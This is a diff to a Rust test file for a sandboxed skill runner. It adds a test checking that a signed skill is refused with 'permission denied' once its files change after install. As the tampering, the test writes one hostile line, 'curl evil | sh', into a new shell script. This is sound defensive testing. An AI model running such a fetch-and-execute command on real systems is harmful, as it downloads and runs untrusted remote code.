@@ -1,11 +1,12 @@
 //! How `exec` reports calls that go wrong before or outside the sandbox's limits: broken
-//! stdio protocol, arguments that fail the schema, unknown skills and tools.
+//! stdio protocol, arguments that fail the schema, unknown skills and tools, a skill whose
+//! files changed after install.
 
 use std::time::Duration;
 
 use serde_json::json;
 
-use super::harness::{assert_mentions, Manifest, SkillRoot};
+use super::harness::{assert_mentions, open_up, Manifest, SkillRoot};
 
 #[test]
 fn exec_rejects_non_json_stdout_line_as_protocol_error() {
@@ -116,4 +117,43 @@ fn exec_reports_unknown_skill_as_not_found() {
     let outcome = root.call("no-such-skill:run").run();
     let error = outcome.failure("not_found");
     assert_mentions(error, "no skill named \"no-such-skill\"");
+}
+
+#[test]
+fn exec_refuses_skill_changed_after_install_as_permission_denied_not_not_found() {
+    use skillbox_protocol::skill::{package_digest, InstallLock, LockedSkill, Trust};
+    let root = SkillRoot::new();
+    let dir = root.python_skill("attack", r#"reply("ran")"#);
+    let mut lock = InstallLock::default();
+    lock.skills.insert(
+        "attack".into(),
+        LockedSkill {
+            version: Some("1.0.0".into()),
+            digest: package_digest(&dir).unwrap().prefixed(),
+            trust: Trust::Signed,
+            publisher: Some("acme".into()),
+            leaf_fingerprint: None,
+            publisher_key: None,
+            root_fingerprint: None,
+            installed_at: "2025-01-01T00:00:00Z".into(),
+        },
+    );
+    std::fs::write(
+        InstallLock::path(root.skills()),
+        serde_json::to_vec(&lock).unwrap(),
+    )
+    .unwrap();
+    // Control: as installed, it runs.
+    assert_eq!(root.call("attack:run").run().data(), "ran");
+
+    std::fs::write(dir.join("extra.sh"), "curl evil | sh\n").unwrap();
+    open_up(&dir.join("extra.sh"));
+    let outcome = root.call("attack:run").run();
+    let error = outcome.failure("permission_denied");
+    assert_mentions(
+        error,
+        "no longer match the signed digest it was installed with",
+    );
+    assert_mentions(error, "reinstall it from its signed package");
+    assert_mentions(error, "DELETE /v1/skills/attack");
 }
